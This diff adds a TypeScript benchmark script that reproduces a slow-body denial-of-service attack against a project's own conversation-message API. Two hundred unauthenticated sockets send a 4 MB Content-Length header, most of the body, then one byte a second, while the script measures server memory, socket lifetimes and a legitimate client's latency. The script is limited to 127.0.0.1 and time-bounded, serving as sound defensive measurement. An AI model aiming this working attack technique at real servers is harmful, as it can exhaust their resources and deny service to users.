@@ -1,0 +1,140 @@
+// The slow-body attack of issue 15 (finding 2), measured: `SOCKETS` sockets send
+// `POST /v1/conversations/messages` headers without a key, `Content-Length: 4000000`,
+// 3.9 MB of body, then a byte a second, while another client records turns. Prints the
+// server's RSS (start, peak, 30 s after the sockets opened), how long each socket stayed
+// open against the configured request timeout, and the other client's record latency.
+// 127.0.0.1 only; every loop is bounded (the attack stops after `ATTACK_SECONDS`).
+//
+//   npx tsx bench/attack/slow-body.ts
+//   SOCKETS=200 ATTACK_SECONDS=35 FORESIGHT_REQUEST_TIMEOUT_MS=10000 npx tsx bench/attack/slow-body.ts
+import { spawn } from 'node:child_process';
+import { readFileSync } from 'node:fs';
+import { connect, type Socket } from 'node:net';
+import { dirname, join } from 'node:path';
+import { createInterface } from 'node:readline';
+import { fileURLToPath } from 'node:url';
+
+const SOCKETS = Number(process.env.SOCKETS ?? 200);
+const ATTACK_SECONDS = Number(process.env.ATTACK_SECONDS ?? 35);
+const REQUEST_TIMEOUT_MS = Number(process.env.FORESIGHT_REQUEST_TIMEOUT_MS ?? 10_000);
+const BODY_BYTES = 3_900_000;
+
+const here = dirname(fileURLToPath(import.meta.url));
+const child = spawn(process.execPath, ['--import', 'tsx', join(here, 'attack-server.ts')], {
+  cwd: join(here, '..', '..'),
+  env: { ...process.env, FORESIGHT_REQUEST_TIMEOUT_MS: String(REQUEST_TIMEOUT_MS) },
+  stdio: ['pipe', 'pipe', 'inherit'],
+});
+const first = await new Promise<string>((resolve, reject) => {
+  const lines = createInterface({ input: child.stdout });
+  lines.once('line', resolve);
+  child.once('exit', (code) => reject(new Error(`attack server exited ${code}`)));
+});
+const { restUrl, key, pid } = JSON.parse(first) as { restUrl: string; key: string; pid: number };
+const { hostname, port } = new URL(restUrl);
+if (hostname !== '127.0.0.1') throw new Error(`refusing to attack ${hostname}: 127.0.0.1 only`);
+
+const rssMb = () => {
+  const line = readFileSync(`/proc/${pid}/status`, 'utf8').match(/VmRSS:\s+(\d+) kB/);
+  return Number(line?.[1] ?? 0) / 1024;
+};
+
+let recordSeq = 0;
+async function recordOnce(): Promise<number> {
+  const started = performance.now();
+  const response = await fetch(`${restUrl}/v1/conversations/messages`, {
+    method: 'POST',
+    headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
+    body: JSON.stringify({
+      conversation_id: '7d1c5b0e-3f51-4d8e-9b6a-2f4f3f0c9a11',
+      role: 'user',
+      content: `turn ${recordSeq++} during the attack`,
+      user_id: 'victim-user',
+    }),
+  });
+  await response.arrayBuffer();
+  if (response.status !== 200) throw new Error(`victim record answered ${response.status}`);
+  return performance.now() - started;
+}
+
+// Warm up: the first records pay for JIT and the store's first pages.
+for (let turn = 0; turn < 50; turn++) await recordOnce();
+const startRss = rssMb();
+
+interface Attacker {
+  openedAt: number;
+  closedAt?: number;
+}
+const attackers: Attacker[] = [];
+const sockets: Socket[] = [];
+const attackStart = performance.now();
+const attackEnd = attackStart + ATTACK_SECONDS * 1000;
+const body = Buffer.alloc(BODY_BYTES, 'a');
+for (let index = 0; index < SOCKETS; index++) {
+  const attacker: Attacker = { openedAt: performance.now() };
+  attackers.push(attacker);
+  const socket = connect(Number(port), '127.0.0.1');
+  sockets.push(socket);
+  socket.on('error', () => {});
+  socket.on('data', () => {});
+  socket.once('close', () => {
+    attacker.closedAt = performance.now();
+  });
+  socket.once('connect', () => {
+    socket.write(
+      `POST /v1/conversations/messages HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nContent-Type: application/json\r\nContent-Length: 4000000\r\n\r\n`,
+    );
+    socket.write(body);
+    const trickle = setInterval(() => {
+      if (socket.destroyed || performance.now() > attackEnd) {
+        clearInterval(trickle);
+        return;
+      }
+      socket.write('a');
+    }, 1000);
+  });
+}
+
+const latencies: number[] = [];
+const rssSamples: { atS: number; mb: number }[] = [];
+const sampler = setInterval(() => {
+  rssSamples.push({ atS: (performance.now() - attackStart) / 1000, mb: rssMb() });
+}, 500);
+while (performance.now() < attackEnd) {
+  latencies.push(await recordOnce());
+  await new Promise((resolve) => setTimeout(resolve, 10));
+}
+clearInterval(sampler);
+for (const socket of sockets) socket.destroy();
+
+latencies.sort((a, b) => a - b);
+const quantile = (q: number) =>
+  latencies[Math.min(latencies.length - 1, Math.floor(q * latencies.length))] ?? 0;
+const openFor = attackers.map(
+  (a) => ((a.closedAt ?? Number.POSITIVE_INFINITY) - a.openedAt) / 1000,
+);
+const stillOpen = openFor.filter((s) => !Number.isFinite(s)).length;
+const peak = Math.max(startRss, ...rssSamples.map((sample) => sample.mb));
+const at30 = rssSamples.filter((sample) => sample.atS <= 30).at(-1)?.mb ?? rssMb();
+const rows: [string, string][] = [
+  ['sockets (no key, Content-Length 4 000 000, 3.9 MB then 1 byte/s)', String(SOCKETS)],
+  ['configured request timeout', `${REQUEST_TIMEOUT_MS} ms`],
+  ['server RSS at start', `${startRss.toFixed(0)} MB`],
+  ['server RSS peak during the attack', `${peak.toFixed(0)} MB`],
+  [
+    'server RSS 30 s after the sockets opened',
+    `${at30.toFixed(0)} MB (${(at30 - startRss).toFixed(0)} MB over start)`,
+  ],
+  [
+    'longest a socket stayed open',
+    stillOpen
+      ? `${stillOpen} still open after ${ATTACK_SECONDS} s`
+      : `${Math.max(...openFor).toFixed(1)} s`,
+  ],
+  ['other client records during the attack', String(latencies.length)],
+  ['other client record p50', `${quantile(0.5).toFixed(1)} ms`],
+  ['other client record p99', `${quantile(0.99).toFixed(1)} ms`],
+];
+for (const [name, value] of rows) process.stdout.write(`${name.padEnd(66)} ${value}\n`);
+child.stdin.end();
+await new Promise((resolve) => child.once('exit', resolve));
